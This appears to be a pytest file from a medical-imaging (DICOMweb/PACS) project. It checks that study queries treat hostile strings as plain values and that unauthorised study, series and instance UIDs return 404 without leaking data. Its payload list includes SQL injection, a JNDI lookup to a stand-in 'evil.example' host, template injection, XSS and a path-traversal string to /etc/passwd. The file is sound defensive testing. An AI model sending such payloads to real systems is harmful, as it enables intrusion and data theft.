"""What is tried on a real peer's DICOMweb: programs and statements as values, UIDs of others. What
needs no peer is in tests/p2pacs/dicomweb/server/test_attacks.py."""

from __future__ import annotations

from pathlib import Path
from typing import Final

import httpx
import pytest

from tests.p2pacs.study import samples
from tests.peer.gateway.web.test_dicomweb import served, value
from tests.peer.retrieval.test_study_fetch import LIMIT
from tests.peer.world import described, instances

STATEMENTS: Final = (
    "'; DROP TABLE catalogue_studies; --",
    "x' OR '1'='1",
    '" OR ""="',
    "%",
    "_",
    "[a-z]*",
    "[^x]*",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "../../etc/passwd",
    "Grün\u0000^Zoë",
    "\u202eeoZ",
    "a" * 5000,
)
KEYS: Final = (
    "PatientName",
    "PatientID",
    "AccessionNumber",
    "StudyDescription",
    "ReferringPhysicianName",
    "StudyID",
    "ModalitiesInStudy",
    "StudyInstanceUID",
    "StudyDate",
    "PatientBirthDate",
)


async def test_statements_and_programs_are_values(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    async with (
        served(tmp_path, instances(1)) as (world, _, root),
        httpx.AsyncClient(timeout=LIMIT) as http,
    ):
        capsys.readouterr()
        for key in KEYS:
            for said in STATEMENTS:
                for fuzzy in ("false", "true") if key == "PatientName" else ("false",):
                    asked = {key: said, "fuzzymatching": fuzzy}
                    answer = await http.get(f"{root}/studies", params=asked)
                    assert answer.status_code in (200, 400), (key, said)
                    if answer.status_code == 200 and answer.json():  # a key that is not told of it
                        assert "not matched" in answer.headers["warning"], (key, said)
        (study,) = (await http.get(f"{root}/studies")).json()
        assert value(study, "StudyInstanceUID") == world.broker.uid
        logged = capsys.readouterr().out
    assert not any(said in logged for said in STATEMENTS if len(said) > 2)


async def test_uids_of_others_lead_nowhere(tmp_path: Path) -> None:
    """What this hospital may not read is not in its catalogue: as if it were nowhere."""
    async with (
        served(tmp_path, instances(2)) as (world, _, root),
        httpx.AsyncClient(timeout=LIMIT) as http,
    ):
        world.broker.described = described(2)
        uid, sop = world.broker.uid, samples.instance(1).sop_instance_uid
        own = f"{root}/studies/{uid}/series/{uid}.1/instances/{sop}"
        assert (await http.get(f"{own}/metadata")).status_code == 200
        for study, series, instance in (
            ("1.2.999", f"{uid}.1", sop),
            (uid, "1.2.999", sop),
            (uid, f"{uid}.1", "1.2.999"),
        ):
            of = f"{root}/studies/{study}/series/{series}"
            path = f"{of}/instances/{instance}"
            for end in ("", "/metadata", "/frames/1", "/rendered", "/bulkdata/7FE00010"):
                answer = await http.get(path + end)
                assert answer.status_code == 404, path + end
                assert uid not in answer.text
        for path in ("1.2.999", "1.2.999/metadata", "1.2.999/series", "1.2.999/instances"):
            assert (await http.get(f"{root}/studies/{path}")).status_code == 404
